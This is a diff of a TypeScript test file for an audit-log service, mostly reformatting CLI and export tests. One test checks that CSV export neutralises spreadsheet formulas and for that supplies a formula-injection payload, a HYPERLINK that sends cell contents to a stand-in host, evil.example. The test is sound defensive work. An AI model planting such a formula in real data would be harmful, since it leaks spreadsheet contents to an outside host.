@@ -12,7 +12,10 @@ beforeAll(async () => {
 afterAll(async () => t.close());
 
 const cli = (args: string[]) =>
-  spawnSync(process.execPath, ['--import', 'tsx', 'server/cli/main.ts', ...args], { encoding: 'utf8', env: { ...process.env, TOOLGATE_DB: join(t.dir, 'toolgate.db') } });
+  spawnSync(process.execPath, ['--import', 'tsx', 'server/cli/main.ts', ...args], {
+    encoding: 'utf8',
+    env: { ...process.env, TOOLGATE_DB: join(t.dir, 'toolgate.db') },
+  });
 const lastSeq = async () => (await t.request('GET', '/v1/audit?limit=1000')).json.items.at(-1)?.seq ?? 0;
 
 describe('audit log', () => {
@@ -109,7 +112,7 @@ describe('audit log', () => {
     const edited = target.slice(0, at) + (target[at] === '1' ? '2' : '1') + target.slice(at + 1);
     expect(edited.length).toBe(target.length);
     expect(edited).not.toBe(target);
-    writeFileSync(file, [...lines.slice(0, 2), edited, ...lines.slice(3)].join('\n') + '\n');
+    writeFileSync(file, `${[...lines.slice(0, 2), edited, ...lines.slice(3)].join('\n')}\n`);
     const bad = cli(['audit', 'verify', file]);
     expect(bad.status).toBe(1);
     expect(bad.stdout).toContain('BROKEN at seq 3');
@@ -148,7 +151,10 @@ describe('audit log', () => {
 
   it('exports from the CLI the same events the API exports', async () => {
     const api = (await t.request('GET', '/v1/audit/export?format=jsonl')).text;
-    const out = execFileSync(process.execPath, ['--import', 'tsx', 'server/cli/main.ts', 'audit', 'export'], { encoding: 'utf8', env: { ...process.env, TOOLGATE_DB: join(t.dir, 'toolgate.db') } });
+    const out = execFileSync(process.execPath, ['--import', 'tsx', 'server/cli/main.ts', 'audit', 'export'], {
+      encoding: 'utf8',
+      env: { ...process.env, TOOLGATE_DB: join(t.dir, 'toolgate.db') },
+    });
     expect(out).toBe(api);
   });
 });
@@ -165,7 +171,10 @@ describe('audit order', () => {
 
 describe('CSV export and spreadsheets', () => {
   it('defuses cells a spreadsheet would run as formulas, and the export still verifies', async () => {
-    const r = await t.request('POST', '/v1/groups', { body: { name: 'formula-probe' }, headers: { 'toolgate-reason': '=HYPERLINK("https://evil.example/?"&B2,"details")' } });
+    const r = await t.request('POST', '/v1/groups', {
+      body: { name: 'formula-probe' },
+      headers: { 'toolgate-reason': '=HYPERLINK("https://evil.example/?"&B2,"details")' },
+    });
     expect(r.status).toBe(201);
     const csv = (await t.request('GET', '/v1/audit/export?format=csv')).text;
     expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&B2,""details"")"`);
